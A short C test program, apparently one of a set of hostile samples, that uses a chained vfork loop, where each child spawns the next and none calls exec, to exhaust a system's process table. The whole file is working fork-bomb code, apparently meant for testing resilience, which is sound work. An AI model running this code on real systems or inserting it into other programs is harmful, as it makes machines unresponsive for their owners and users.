// Attacks: the process table with vfork: every child makes the next one and none ever calls exec.
#include "../hostile.h"
int main(void) {
  while (vfork() == 0) {
  }
  while (1) pause();
}
